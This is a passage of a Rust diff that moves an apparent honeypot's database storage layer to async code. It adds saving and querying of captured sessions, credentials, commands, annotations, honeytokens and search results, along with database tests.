+                    "DB write error in save_capture_artifacts delete_many: {}",
+                    e
+                );
+                StorageError::WriteFailed
+            })?;
+        if !file_models.is_empty() {
+            files::Entity::insert_many(file_models)
+                .exec(&txn)
+                .await
+                .map_err(|e| {
+                    error!(
+                        "DB write error in save_capture_artifacts insert_many: {}",
+                        e
+                    );
                     StorageError::WriteFailed
                 })?;
-                debug!("Inserted an interaction ({} bytes)", data.len());
-                Ok(())
+        }
+        let (delete, insert) = match backend {
+            DbBackend::Sqlite => (
+                "DELETE FROM search_index WHERE session_id = ?",
+                "INSERT INTO search_index (session_id, field, content) VALUES (?, ?, ?)",
+            ),
+            _ => (
+                "DELETE FROM search_index WHERE session_id = $1",
+                "INSERT INTO search_index (session_id, field, content) VALUES ($1, $2, $3)",
+            ),
+        };
+        txn.execute(Statement::from_sql_and_values(
+            backend,
+            delete,
+            [session_id.clone().into()],
+        ))
+        .await
+        .map_err(|e| {
+            error!(
+                "DB write error in save_capture_artifacts search delete: {}",
+                e
+            );
+            StorageError::WriteFailed
+        })?;
+        for (field, content) in documents {
+            txn.execute(Statement::from_sql_and_values(
+                backend,
+                insert,
+                [
+                    session_id.clone().into(),
+                    field.as_str().into(),
+                    content.into(),
+                ],
+            ))
+            .await
+            .map_err(|e| {
+                error!(
+                    "DB write error in save_capture_artifacts search insert: {}",
+                    e
+                );
+                StorageError::WriteFailed
+            })?;
+        }
+        txn.commit().await.map_err(|e| {
+            error!("DB write error in save_capture_artifacts commit: {}", e);
+            StorageError::WriteFailed
+        })?;
+        info!("Saved artifacts for a session");
+        Ok(())
+    }
+
+    async fn get_capture_artifacts(
+        &self,
+        session_id: Uuid,
+    ) -> Result<CaptureArtifacts, StorageError> {
+        let id = session_id.to_string();
+        let m = art::Entity::find_by_id(id.clone())
+            .one(&self.conn)
+            .await
+            .map_err(|e| {
+                error!("DB read error in get_capture_artifacts find_by_id: {}", e);
+                StorageError::ReadFailed
+            })?
+            .ok_or(StorageError::NotFound)?;
+        let artifacts: CaptureArtifacts = match m.payload {
+            Some(payload) => serde_json::from_slice(&compression::decode(&payload)?),
+            None => serde_json::from_str(&m.json),
+        }
+        .map_err(|_| StorageError::ReadFailed)?;
+        debug!("Loaded artifacts from database");
+        Ok(artifacts)
+    }
+
+    async fn save_credentials(&self, credentials: &[Credential]) -> Result<(), StorageError> {
+        if credentials.is_empty() {
+            return Ok(());
+        }
+        let models: Vec<cred::ActiveModel> = credentials
+            .iter()
+            .map(|c| cred::ActiveModel {
+                session_id: Set(c.session_id.to_string()),
+                timestamp: Set(c.timestamp.to_rfc3339()),
+                service: Set(c.service.clone()),
+                client_ip: Set(c.client_ip.map(|ip| ip.to_string())),
+                username: Set(c.username.clone()),
+                password: Set(c.password.clone()),
+                accepted: Set(c.accepted),
+                ..Default::default()
             })
-        })
+            .collect();
+
+        cred::Entity::insert_many(models)
+            .exec(&self.conn)
+            .await
+            .map_err(|e| {
+                error!("DB write error in save_credentials insert_many: {}", e);
+                StorageError::WriteFailed
+            })?;
+        debug!("Inserted {} credential(s)", credentials.len());
+        Ok(())
+    }
+
+    async fn get_credentials(
+        &self,
+        filter: Option<CredentialFilter>,
+    ) -> Result<Vec<Credential>, StorageError> {
+        let mut query = cred::Entity::find();
+        if let Some(f) = filter {
+            let mut cond = Condition::all();
+            if let Some(id) = f.session_id {
+                cond = cond.add(cred::Column::SessionId.eq(id.to_string()));
+            }
+            if let Some(name) = f.service_name {
+                cond = cond.add(cred::Column::Service.eq(name));
+            }
+            if let Some(ip) = f.client_addr {
+                cond = cond.add(cred::Column::ClientIp.eq(ip.to_string()));
+            }
+            if let Some(username) = f.username {
+                cond = cond.add(cred::Column::Username.eq(username));
+            }
+            if let Some(password) = f.password {
+                cond = cond.add(cred::Column::Password.eq(password));
+            }
+            if let Some(start) = f.start_date {
+                cond = cond.add(cred::Column::Timestamp.gte(start.to_rfc3339()));
+            }
+            if let Some(end) = f.end_date {
+                cond = cond.add(cred::Column::Timestamp.lte(end.to_rfc3339()));
+            }
+            query = query.filter(cond);
+        }
+        let rows = query
+            .order_by_asc(cred::Column::Timestamp)
+            .order_by_asc(cred::Column::Id)
+            .all(&self.conn)
+            .await
+            .map_err(|e| {
+                error!("DB read error in get_credentials: {}", e);
+                StorageError::ReadFailed
+            })?;
+        debug!("Fetched {} credential rows", rows.len());
+        rows.into_iter()
+            .map(|r| {
+                let timestamp = DateTime::parse_from_rfc3339(&r.timestamp)
+                    .map_err(|_| StorageError::ReadFailed)?
+                    .with_timezone(&Utc);
+                Ok(Credential {
+                    session_id: Uuid::parse_str(&r.session_id)
+                        .map_err(|_| StorageError::ReadFailed)?,
+                    timestamp,
+                    service: r.service,
+                    client_ip: r.client_ip.and_then(|ip| ip.parse().ok()),
+                    username: r.username,
+                    password: r.password,
+                    accepted: r.accepted,
+                })
+            })
+            .collect()
     }
 
-    fn get_session_data(&self, session_id: Uuid) -> Result<Vec<u8>, StorageError> {
-        let conn = self.conn.clone();
+    async fn save_commands(
+        &self,
+        session_id: Uuid,
+        commands: &[ExecutedCommand],
+    ) -> Result<(), StorageError> {
+        let id = session_id.to_string();
+        let models: Vec<cmd::ActiveModel> = commands
+            .iter()
+            .map(|c| cmd::ActiveModel {
+                session_id: Set(id.clone()),
+                timestamp: Set(c.timestamp.to_rfc3339()),
+                source: Set(c.source.clone()),
+                command: Set(c.command.clone()),
+                stdout_lines: Set(c.stdout_lines as i64),
+                stderr_lines: Set(c.stderr_lines as i64),
+                exit_hint: Set(c.exit_hint.map(|hint| {
+                    match hint {
+                        ExitHint::Output => "output",
+                        ExitHint::Error => "error",
+                        ExitHint::NotFound => "not_found",
+                    }
+                    .to_string()
+                })),
+                ..Default::default()
+            })
+            .collect();
 
-        tokio::task::block_in_place(|| {
-            tokio::runtime::Handle::current().block_on(async {
-                let mut out = Vec::new();
-                let rows = inter::Entity::find()
-                    .filter(inter::Column::SessionId.eq(session_id.to_string()))
-                    .order_by_asc(inter::Column::Id)
-                    .all(&conn)
-                    .await
-                    .map_err(|e| {
-                        error!("DB read error in get_session_data: {}", e);
-                        StorageError::ReadFailed
-                    })?;
-                let mut chunks = 0usize;
-                for r in rows {
-                    out.extend_from_slice(&r.data);
-                    chunks += 1;
-                }
-                debug!(
-                    "Concatenated {} interaction chunk(s), total {} bytes",
-                    chunks,
-                    out.len()
-                );
-                Ok(out)
+        let txn = self.conn.begin().await.map_err(|e| {
+            error!("DB write error in save_commands begin: {}", e);
+            StorageError::WriteFailed
+        })?;
+        cmd::Entity::delete_many()
+            .filter(cmd::Column::SessionId.eq(id.clone()))
+            .exec(&txn)
+            .await
+            .map_err(|e| {
+                error!("DB write error in save_commands delete_many: {}", e);
+                StorageError::WriteFailed
+            })?;
+        if !models.is_empty() {
+            cmd::Entity::insert_many(models)
+                .exec(&txn)
+                .await
+                .map_err(|e| {
+                    error!("DB write error in save_commands insert_many: {}", e);
+                    StorageError::WriteFailed
+                })?;
+        }
+        txn.commit().await.map_err(|e| {
+            error!("DB write error in save_commands commit: {}", e);
+            StorageError::WriteFailed
+        })?;
+        debug!("Stored {} command(s) for a session", commands.len());
+        Ok(())
+    }
+
+    async fn get_commands(&self, session_id: Uuid) -> Result<Vec<ExecutedCommand>, StorageError> {
+        let rows = cmd::Entity::find()
+            .filter(cmd::Column::SessionId.eq(session_id.to_string()))
+            .order_by_asc(cmd::Column::Id)
+            .all(&self.conn)
+            .await
+            .map_err(|e| {
+                error!("DB read error in get_commands: {}", e);
+                StorageError::ReadFailed
+            })?;
+        rows.into_iter()
+            .map(|r| {
+                let timestamp = DateTime::parse_from_rfc3339(&r.timestamp)
+                    .map_err(|_| StorageError::ReadFailed)?
+                    .with_timezone(&Utc);
+                let exit_hint = match r.exit_hint.as_deref() {
+                    None => None,
+                    Some("output") => Some(ExitHint::Output),
+                    Some("error") => Some(ExitHint::Error),
+                    Some("not_found") => Some(ExitHint::NotFound),
+                    Some(_) => return Err(StorageError::ReadFailed),
+                };
+                Ok(ExecutedCommand {
+                    session_id,
+                    timestamp,
+                    source: r.source,
+                    command: r.command,
+                    stdout_lines: r.stdout_lines as usize,
+                    stderr_lines: r.stderr_lines as usize,
+                    exit_hint,
+                })
             })
-        })
+            .collect()
     }
 
-    fn cleanup_old_sessions(&self, older_than: DateTime<Utc>) -> Result<usize, StorageError> {
-        let conn = self.conn.clone();
+    async fn save_annotations(&self, annotations: &SessionAnnotations) -> Result<(), StorageError> {
+        let id = annotations.session_id.to_string();
+        let models: Vec<tags::ActiveModel> = annotations
+            .tags
+            .iter()
+            .map(|t| tags::ActiveModel {
+                session_id: Set(id.clone()),
+                tag: Set(t.tag.clone()),
+                source: Set(match t.source {
+                    TagSource::Rule => "rule",
+                    TagSource::Analyst => "analyst",
+                    TagSource::Agent => "agent",
+                }
+                .to_string()),
+                added_at: Set(t.added_at.to_rfc3339()),
+                ..Default::default()
+            })
+            .collect();
 
-        tokio::task::block_in_place(|| {
-            tokio::runtime::Handle::current().block_on(async {
-                let cutoff = older_than.to_rfc3339();
-                let coalesce = Func::coalesce([
-                    Expr::col(session::Column::EndTime).into(),
-                    Expr::col(session::Column::StartTime).into(),
-                ]);
-                let cond = Expr::expr(coalesce).lt(cutoff.clone());
-                let res = session::Entity::delete_many()
-                    .filter(cond)
-                    .exec(&conn)
+        let txn = self.conn.begin().await.map_err(|e| {
+            error!("DB write error in save_annotations begin: {}", e);
+            StorageError::WriteFailed
+        })?;
+        tags::Entity::delete_many()
+            .filter(tags::Column::SessionId.eq(id.clone()))
+            .exec(&txn)
+            .await
+            .map_err(|e| {
+                error!("DB write error in save_annotations delete_many: {}", e);
+                StorageError::WriteFailed
+            })?;
+        if !models.is_empty() {
+            tags::Entity::insert_many(models)
+                .exec(&txn)
+                .await
+                .map_err(|e| {
+                    error!("DB write error in save_annotations insert_many: {}", e);
+                    StorageError::WriteFailed
+                })?;
+        }
+        match &annotations.notes {
+            Some(text) => {
+                notes::Entity::insert(notes::ActiveModel {
+                    session_id: Set(id),
+                    notes: Set(text.clone()),
+                })
+                .on_conflict(
+                    OnConflict::column(notes::Column::SessionId)
+                        .update_column(notes::Column::Notes)
+                        .to_owned(),
+                )
+                .exec(&txn)
+                .await
+                .map_err(|e| {
+                    error!("DB write error in save_annotations upsert: {}", e);
+                    StorageError::WriteFailed
+                })?;
+            }
+            None => {
+                notes::Entity::delete_by_id(id)
+                    .exec(&txn)
                     .await
                     .map_err(|e| {
-                        error!("DB write error in cleanup_old_sessions delete_many: {}", e);
+                        error!("DB write error in save_annotations delete: {}", e);
                         StorageError::WriteFailed
                     })?;
-                info!(
-                    "Deleted {} session(s) older than {}",
-                    res.rows_affected, cutoff
-                );
-                Ok(res.rows_affected as usize)
-            })
-        })
+            }
+        }
+        txn.commit().await.map_err(|e| {
+            error!("DB write error in save_annotations commit: {}", e);
+            StorageError::WriteFailed
+        })?;
+        debug!("Stored {} tag(s) for a session", annotations.tags.len());
+        Ok(())
     }
 
-    fn save_capture_artifacts(&self, artifacts: &CaptureArtifacts) -> Result<(), StorageError> {
-        let conn = self.conn.clone();
-        let id = artifacts.session_id.to_string();
-        let json = serde_json::to_string(artifacts).map_err(|_| StorageError::WriteFailed)?;
-
-        tokio::task::block_in_place(|| {
-            tokio::runtime::Handle::current().block_on(async {
-                match art::Entity::find_by_id(id.clone())
-                    .one(&conn)
-                    .await
-                    .map_err(|e| {
-                        error!("DB read error in save_capture_artifacts find_by_id: {}", e);
-                        StorageError::ReadFailed
-                    })? {
-                    Some(_) => {
-                        let am = art::ActiveModel {
-                            session_id: Set(id.clone()),
-                            json: Set(json),
-                        };
-                        am.update(&conn).await.map_err(|e| {
-                            error!("DB write error in save_capture_artifacts update: {}", e);
-                            StorageError::WriteFailed
-                        })?;
-                        info!("Updated artifacts for a session");
-                    }
-                    None => {
-                        let am = art::ActiveModel {
-                            session_id: Set(id.clone()),
-                            json: Set(json),
-                        };
-                        art::Entity::insert(am).exec(&conn).await.map_err(|e| {
-                            error!(
-                                "DB write error in save_capture_artifacts insert exec: {}",
-                                e
-                            );
-                            StorageError::WriteFailed
-                        })?;
-                        info!("Inserted artifacts for a session");
-                    }
-                }
-                Ok(())
+    async fn get_annotations(&self, session_id: Uuid) -> Result<SessionAnnotations, StorageError> {
+        let id = session_id.to_string();
+        let rows = tags::Entity::find()
+            .filter(tags::Column::SessionId.eq(id.clone()))
+            .order_by_asc(tags::Column::Id)
+            .all(&self.conn)
+            .await
+            .map_err(|e| {
+                error!("DB read error in get_annotations: {}", e);
+                StorageError::ReadFailed
+            })?;
+        let note = notes::Entity::find_by_id(id)
+            .one(&self.conn)
+            .await
+            .map_err(|e| {
+                error!("DB read error in get_annotations: {}", e);
+                StorageError::ReadFailed
+            })?;
+        let tags = rows
+            .into_iter()
+            .map(|r| {
+                let added_at = DateTime::parse_from_rfc3339(&r.added_at)
+                    .map_err(|_| StorageError::ReadFailed)?
+                    .with_timezone(&Utc);
+                let source = match r.source.as_str() {
+                    "rule" => TagSource::Rule,
+                    "analyst" => TagSource::Analyst,
+                    "agent" => TagSource::Agent,
+                    _ => return Err(StorageError::ReadFailed),
+                };
+                Ok(SessionTag {
+                    tag: r.tag,
+                    source,
+                    added_at,
+                })
             })
+            .collect::<Result<Vec<_>, _>>()?;
+        Ok(SessionAnnotations {
+            session_id,
+            tags,
+            notes: note.map(|n| n.notes),
         })
     }
 
-    fn get_capture_artifacts(&self, session_id: Uuid) -> Result<CaptureArtifacts, StorageError> {
-        let conn = self.conn.clone();
-
-        tokio::task::block_in_place(|| {
-            tokio::runtime::Handle::current().block_on(async {
-                let id = session_id.to_string();
-                let m = art::Entity::find_by_id(id.clone())
-                    .one(&conn)
-                    .await
-                    .map_err(|e| {
-                        error!("DB read error in get_capture_artifacts find_by_id: {}", e);
-                        StorageError::ReadFailed
-                    })?
-                    .ok_or(StorageError::ReadFailed)?;
-                let artifacts: CaptureArtifacts =
-                    serde_json::from_str(&m.json).map_err(|_| StorageError::ReadFailed)?;
-                debug!("Loaded artifacts from database");
-                Ok(artifacts)
+    async fn save_honeytokens(&self, tokens: &[Honeytoken]) -> Result<(), StorageError> {
+        if tokens.is_empty() {
+            return Ok(());
+        }
+        let models = tokens
+            .iter()
+            .map(|token| {
+                let json = serde_json::to_string(token).map_err(|e| {
+                    error!("Failed to serialize honeytoken: {}", e);
+                    StorageError::WriteFailed
+                })?;
+                Ok(planted::ActiveModel {
+                    id: Set(token.id.to_string()),
+                    created_at: Set(token.created_at.to_rfc3339()),
+                    json: Set(json),
+                })
             })
-        })
+            .collect::<Result<Vec<_>, StorageError>>()?;
+        planted::Entity::insert_many(models)
+            .on_conflict(
+                OnConflict::column(planted::Column::Id)
+                    .update_column(planted::Column::Json)
+                    .to_owned(),
+            )
+            .exec(&self.conn)
+            .await
+            .map_err(|e| {
+                error!("DB write error in save_honeytokens: {}", e);
+                StorageError::WriteFailed
+            })?;
+        debug!("Stored {} honeytoken(s)", tokens.len());
+        Ok(())
     }
-}
+
+    async fn get_honeytokens(&self, limit: usize) -> Result<Vec<Honeytoken>, StorageError> {
+        let rows = planted::Entity::find()
+            .order_by_desc(planted::Column::CreatedAt)
+            .limit(limit as u64)
+            .all(&self.conn)
+            .await
+            .map_err(|e| {
+                error!("DB read error in get_honeytokens: {}", e);
+                StorageError::ReadFailed
+            })?;
+        let mut tokens = rows
+            .into_iter()
+            .map(|row| {
+                serde_json::from_str(&row.json).map_err(|e| {
+                    error!("Malformed honeytoken {}: {}", row.id, e);
+                    StorageError::ReadFailed
+                })
+            })
+            .collect::<Result<Vec<Honeytoken>, StorageError>>()?;
+        tokens.reverse();
+        Ok(tokens)
+    }
+
+    async fn delete_honeytokens(&self, token_ids: &[Uuid]) -> Result<(), StorageError> {
+        if token_ids.is_empty() {
+            return Ok(());
+        }
+        planted::Entity::delete_many()
+            .filter(planted::Column::Id.is_in(token_ids.iter().map(Uuid::to_string)))
+            .exec(&self.conn)
+            .await
+            .map_err(|e| {
+                error!("DB write error in delete_honeytokens: {}", e);
+                StorageError::WriteFailed
+            })?;
+        Ok(())
+    }
+
+    async fn search(&self, query: &str, limit: usize) -> Result<Vec<SearchHit>, StorageError> {
+        let backend = self.conn.get_database_backend();
+        let pattern = search::like_pattern(query);
+        let limit = limit as i64;
+        // The FTS5 index narrows the documents down to those holding the words
+        // of the query, LIKE then checks the exact text
+        let statement = match (backend, search::fts_phrase(query)) {
+            (DbBackend::Sqlite, Some(phrase)) => Statement::from_sql_and_values(
+                backend,
+                "SELECT search_index.session_id, search_index.field, search_index.content \
+                 FROM search_index JOIN sessions ON sessions.id = search_index.session_id \
+                 WHERE search_index MATCH ? AND search_index.content LIKE ? ESCAPE '\\' \
+                 ORDER BY sessions.start_time DESC LIMIT ?",
+                [phrase.into(), pattern.into(), limit.into()],
+            ),
+            (DbBackend::Sqlite, None) => Statement::from_sql_and_values(
+                backend,
+                "SELECT search_index.session_id, search_index.field, search_index.content \
+                 FROM search_index JOIN sessions ON sessions.id = search_index.session_id \
+                 WHERE search_index.content LIKE ? ESCAPE '\\' \
+                 ORDER BY sessions.start_time DESC LIMIT ?",
+                [pattern.into(), limit.into()],
+            ),
+            _ => Statement::from_sql_and_values(
+                backend,
+                "SELECT search_index.session_id, search_index.field, search_index.content \
+                 FROM search_index JOIN sessions ON sessions.id = search_index.session_id \
+                 WHERE search_index.content ILIKE $1 ESCAPE '\\' \
+                 ORDER BY sessions.start_time DESC LIMIT $2",
+                [pattern.into(), limit.into()],
+            ),
+        };
+        let rows = self.conn.query_all(statement).await.map_err(|e| {
+            error!("DB read error in search: {}", e);
+            StorageError::ReadFailed
+        })?;
+        let mut hits = Vec::with_capacity(rows.len());
+        for row in rows {
+            let read = |e: DbErr| {
+                error!("DB read error in search: {}", e);
+                StorageError::ReadFailed
+            };
+            let session_id: String = row.try_get("", "session_id").map_err(read)?;
+            let field: String = row.try_get("", "field").map_err(read)?;
+            let content: String = row.try_get("", "content").map_err(read)?;
+            hits.push(SearchHit {
+                session_id: Uuid::parse_str(&session_id).map_err(|_| StorageError::ReadFailed)?,
+                field: SearchField::parse(&field).ok_or(StorageError::ReadFailed)?,
+                snippet: search::snippet(&content, query),
+            });
+        }
+        debug!("Search matched {} documents", hits.len());
+        Ok(hits)
+    }
+}
 
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::configuration::types::{HoneytokenKind, HoneytokenSpec};
     use crate::session_management::SessionStatus;
+    use crate::storage::types::AnnotationsUpdate;
     use tempfile::TempDir;
 
     async fn temp_db() -> DatabaseStorage {
@@ -459,7 +1416,58 @@ mod tests {
         DatabaseStorage::new_file(path).await.unwrap()
     }
 
-    #[tokio::test(flavor = "multi_thread")]
+    #[test]
+    fn test_schema_column_types_follow_the_backend() {
+        let postgres = DatabaseStorage::schema(DbBackend::Postgres);
+        let sqlite = DatabaseStorage::schema(DbBackend::Sqlite);
+        assert_eq!(postgres.len(), sqlite.len());
+        let interactions = &postgres[1].1;
+        assert!(interactions.contains("id SERIAL PRIMARY KEY"));
+        assert!(interactions.contains("data BYTEA NOT NULL"));
+        assert!(postgres[0].1.contains("bytes_transferred BIGINT NOT NULL"));
+        assert!(postgres[3].1.contains("accepted BOOLEAN"));
+        assert!(sqlite[1].1.contains("id INTEGER PRIMARY KEY AUTOINCREMENT"));
+        assert!(postgres
+            .iter()
+            .chain(&sqlite)
+            .all(|(_, ddl)| !ddl.contains('{')));
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+    async fn test_db_concurrent_session_saves_upsert() {
+        let storage = std::sync::Arc::new(temp_db().await);
+        let id = Uuid::new_v4();
+        let writers: Vec<_> = (0..8u64)
+            .map(|n| {
+                let storage = storage.clone();
+                tokio::spawn(async move {
+                    storage
+                        .save_session(&Session {
+                            id,
+                            service_name: "ssh".into(),
+                            client_addr: "127.0.0.1:2222".parse().unwrap(),
+                            start_time: Utc::now(),
+                            end_time: None,
+                            container_id: None,
+                            bytes_transferred: n,
+                            status: SessionStatus::Active,
+                            enrichment: None,
+                            original_dst: None,
+                        })
+                        .await
+                        .unwrap();
+                })
+            })
+            .collect();
+        for writer in writers {
+            writer.await.unwrap();
+        }
+        let sessions = storage.get_sessions(None).await.unwrap();
+        assert_eq!(sessions.len(), 1);
+        assert!(sessions[0].bytes_transferred < 8);
+    }
+
+    #[tokio::test]
     async fn test_db_session_and_filter() {
         let storage = temp_db().await;
         let now = Utc::now();
@@ -472,15 +1480,18 @@ mod tests {
             container_id: None,
             bytes_transferred: 100,
             status: SessionStatus::Completed,
+            enrichment: None,
+            original_dst: None,
         };
-        storage.save_session(&s1).unwrap();
-        let all = storage.get_sessions(None).unwrap();
+        storage.save_session(&s1).await.unwrap();
+        let all = storage.get_sessions(None).await.unwrap();
         assert_eq!(all.len(), 1);
         let filtered = storage
             .get_sessions(Some(SessionFilter {
                 service_name: Some("ssh".into()),
                 ..Default::default()
             }))
+            .await
             .unwrap();
         assert_eq!(filtered.len(), 1);
         let none = storage
@@ -488,11 +1499,306 @@ mod tests {
                 service_name: Some("http".into()),
                 ..Default::default()
             }))
+            .await
             .unwrap();
         assert_eq!(none.len(), 0);
     }
 
-    #[tokio::test(flavor = "multi_thread")]
+    #[tokio::test]
+    async fn test_db_sessions_are_filtered_by_ipv6_client() {
+        let dir = TempDir::new().unwrap();
+        let storage = DatabaseStorage::new_file(&dir.path().join("miel.sqlite3"))
+            .await
+            .unwrap();
+        for client_addr in ["[2001:db8::7]:2222", "198.51.100.7:2222"] {
+            storage
+                .save_session(&Session {
+                    id: Uuid::new_v4(),
+                    service_name: "ssh".into(),
+                    client_addr: client_addr.parse().unwrap(),
+                    start_time: Utc::now(),
+                    end_time: None,
+                    container_id: None,
+                    bytes_transferred: 0,
+                    status: SessionStatus::Active,
+                    enrichment: None,
+                    original_dst: None,
+                })
+                .await
+                .unwrap();
+        }
+
+        for (ip, expected) in [
+            ("2001:db8::7", "[2001:db8::7]:2222"),
+            ("::ffff:198.51.100.7", "198.51.100.7:2222"),
+        ] {
+            let sessions = storage
+                .get_sessions(Some(SessionFilter {
+                    client_addr: Some(ip.parse().unwrap()),
+                    ..SessionFilter::default()
+                }))
+                .await
+                .unwrap();
+            assert_eq!(sessions.len(), 1);
+            assert_eq!(sessions[0].client_addr, expected.parse().unwrap());
+        }
+    }
+
+    #[tokio::test]
+    async fn test_db_sessions_keep_and_filter_their_original_destination() {
+        let dir = TempDir::new().unwrap();
+        let storage = DatabaseStorage::new_file(&dir.path().join("miel.sqlite3"))
+            .await
+            .unwrap();
+        for original_dst in [Some("192.0.2.1:23"), Some("[2001:db8::1]:445"), None] {
+            storage
+                .save_session(&Session {
+                    id: Uuid::new_v4(),
+                    service_name: "catch-all".into(),
+                    client_addr: "198.51.100.7:51234".parse().unwrap(),
+                    start_time: Utc::now(),
+                    end_time: None,
+                    container_id: None,
+                    bytes_transferred: 0,
+                    status: SessionStatus::Active,
+                    enrichment: None,
+                    original_dst: original_dst.map(|addr| addr.parse().unwrap()),
+                })
+                .await
+                .unwrap();
+        }
+
+        for (port, expected) in [(23, "192.0.2.1:23"), (445, "[2001:db8::1]:445")] {
+            let sessions = storage
+                .get_sessions(Some(SessionFilter {
+                    original_port: Some(port),
+                    ..SessionFilter::default()
+                }))
+                .await
+                .unwrap();
+            assert_eq!(sessions.len(), 1);
+            assert_eq!(sessions[0].original_dst, Some(expected.parse().unwrap()));
+        }
+    }
+
+    #[tokio::test]
+    async fn test_db_sessions_are_sorted_and_paginated() {
+        let dir = TempDir::new().unwrap();
+        let storage = DatabaseStorage::new_file(&dir.path().join("miel.sqlite3"))
+            .await
+            .unwrap();
+        let start = Utc::now();
+        for i in 0..5i64 {
+            storage
+                .save_session(&Session {
+                    id: Uuid::new_v4(),
+                    service_name: "ssh".into(),
+                    client_addr: "198.51.100.7:2222".parse().unwrap(),
+                    start_time: start + chrono::Duration::seconds(i),
+                    end_time: None,
+                    container_id: None,
+                    bytes_transferred: (i as u64 * 7) % 5,
+                    status: SessionStatus::Active,
+                    enrichment: None,
+                    original_dst: None,
+                })
+                .await
+                .unwrap();
+        }
+
+        let page = |filter: serde_json::Value| {
+            let filter: SessionFilter = serde_json::from_value(filter).unwrap();
+            let storage = &storage;
+            async move { storage.get_sessions(Some(filter)).await.unwrap() }
+        };
+        let newest = page(
+            serde_json::json!({"service": "ssh", "sort": "-start_time", "offset": 1, "limit": 2}),
+        )
+        .await;
+        let times: Vec<_> = newest.iter().map(|s| s.start_time - start).collect();
+        assert_eq!(
+            times,
+            [chrono::Duration::seconds(3), chrono::Duration::seconds(2)]
+        );
+
+        let by_bytes = page(serde_json::json!({"sort": "bytes_transferred"})).await;
+        let bytes: Vec<_> = by_bytes.iter().map(|s| s.bytes_transferred).collect();
+        assert_eq!(bytes, [0, 1, 2, 3, 4]);
+        assert_eq!(page(serde_json::json!({"offset": 4})).await.len(), 1);
+        assert!(
+            page(serde_json::json!({"since": start + chrono::Duration::seconds(10)}))
+                .await
+                .is_empty()
+        );
+    }
+
+    #[tokio::test]
+    async fn test_db_sessions_are_filtered_by_size_duration_and_either_criterion() {
+        let storage = temp_db().await;
+        let start = Utc::now() - chrono::Duration::hours(1);
+        let session = |bytes: u64, duration: Option<i64>, container_id: Option<&str>| Session {
+            id: Uuid::new_v4(),
+            service_name: "ssh".into(),
+            client_addr: "198.51.100.7:2222".parse().unwrap(),
+            start_time: start,
+            end_time: duration.map(|secs| start + chrono::Duration::seconds(secs)),
+            container_id: container_id.map(str::to_string),
+            bytes_transferred: bytes,
+            status: SessionStatus::Completed,
+            enrichment: None,
+            original_dst: None,
+        };
+        let small = session(100, Some(30), None);
+        let long = session(5000, Some(600), Some("c0ffee"));
+        let active = session(5000, None, None);
+        for s in [&small, &long, &active] {
+            storage.save_session(s).await.unwrap();
+        }
+        let mut annotations = storage.get_annotations(small.id).await.unwrap();
+        annotations.update(&AnnotationsUpdate {
+            add_tags: vec!["scanner".into()],
+            ..Default::default()
+        });
+        storage.save_annotations(&annotations).await.unwrap();
+
+        let found = |filter: serde_json::Value| {
+            let filter: SessionFilter = serde_json::from_value(filter).unwrap();
+            let storage = &storage;
+            async move {
+                let mut ids: Vec<_> = storage
+                    .get_sessions(Some(filter))
+                    .await
+                    .unwrap()
+                    .iter()
+                    .map(|s| s.id)
+                    .collect();
+                ids.sort();
+                ids
+            }
+        };
+        let sorted = |mut ids: Vec<Uuid>| {
+            ids.sort();
+            ids
+        };
+
+        assert_eq!(
+            found(serde_json::json!({"min_bytes": 1000, "max_bytes": 5000})).await,
+            sorted(vec![long.id, active.id])
+        );
+        // Sessions still running have no duration
+        assert_eq!(
+            found(serde_json::json!({"min_duration_secs": 60})).await,
+            [long.id]
+        );
+        assert_eq!(
+            found(serde_json::json!({"max_duration_secs": 30})).await,
+            [small.id]
+        );
+        assert!(
+            found(serde_json::json!({"container_id": "c0ffee", "max_bytes": 1000}))
+                .await
+                .is_empty()
+        );
+        assert_eq!(
+            found(serde_json::json!({"combine": "or", "container_id": "c0ffee", "tag": "scanner"}))
+                .await,
+            sorted(vec![small.id, long.id])
+        );
+        // The time window applies even to sessions matching another criterion
+        assert!(found(serde_json::json!({
+            "combine": "any",
+            "since": start + chrono::Duration::hours(2),
+            "min_bytes": 0
+        }))
+        .await
+        .is_empty());
+    }
+
+    #[tokio::test]
+    async fn test_db_enrichment_is_stored_and_filtered() {
+        let dir = TempDir::new().unwrap();
+        let path = dir.path().join("old.sqlite3");
+        // A database created before sessions were enriched
+        let conn = Database::connect(format!("sqlite://{}?mode=rwc", path.display()))
+            .await
+            .unwrap();
+        conn.execute(Statement::from_string(
+            DbBackend::Sqlite,
+            "CREATE TABLE sessions (id TEXT PRIMARY KEY, service_name TEXT NOT NULL, \
+             client_addr TEXT NOT NULL, start_time TEXT NOT NULL, end_time TEXT, \
+             container_id TEXT, bytes_transferred INTEGER NOT NULL, status TEXT NOT NULL)"
+                .to_string(),
+        ))
+        .await
+        .unwrap();
+        drop(conn);
+
+        let storage = DatabaseStorage::new_file(&path).await.unwrap();
+        let enrichment = IpEnrichment {
+            country_code: Some("NL".into()),
+            asn: Some(64496),
+            as_org: Some("Example".into()),
+            abuse_score: Some(80),
+        };
+        let session = Session {
+            id: Uuid::new_v4(),
+            service_name: "ssh".into(),
+            client_addr: "198.51.100.7:2222".parse().unwrap(),
+            start_time: Utc::now(),
+            end_time: None,
+            container_id: None,
+            bytes_transferred: 0,
+            status: SessionStatus::Active,
+            enrichment: Some(enrichment.clone()),
+            original_dst: None,
+        };
+        storage.save_session(&session).await.unwrap();
+        storage
+            .save_session(&Session {
+                id: Uuid::new_v4(),
+                enrichment: None,
+                ..session.clone()
+            })
+            .await
+            .unwrap();
+
+        let found = storage
+            .get_sessions(Some(SessionFilter {
+                country_code: Some("NL".into()),
+                min_abuse_score: Some(50),
+                ..Default::default()
+            }))
+            .await
+            .unwrap();
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].enrichment, Some(enrichment));
+        let by_asn = storage
+            .get_sessions(Some(SessionFilter {
+                asn: Some(64496),
+                ..Default::default()
+            }))
+            .await
+            .unwrap();
+        assert_eq!(by_asn.len(), 1);
+        let other_asn = storage
+            .get_sessions(Some(SessionFilter {
+                asn: Some(4134),
+                ..Default::default()
+            }))
+            .await
+            .unwrap();
+        assert!(other_asn.is_empty());
+        let none = storage
+            .get_sessions(Some(SessionFilter {
+                min_abuse_score: Some(90),
+                ..Default::default()
+            }))
+            .await
+            .unwrap();
+        assert!(none.is_empty());
+    }
+
+    #[tokio::test]
     async fn test_db_interactions_roundtrip() {
         let storage = temp_db().await;
         let id = Uuid::new_v4();
@@ -506,15 +1812,18 @@ mod tests {
                 container_id: None,
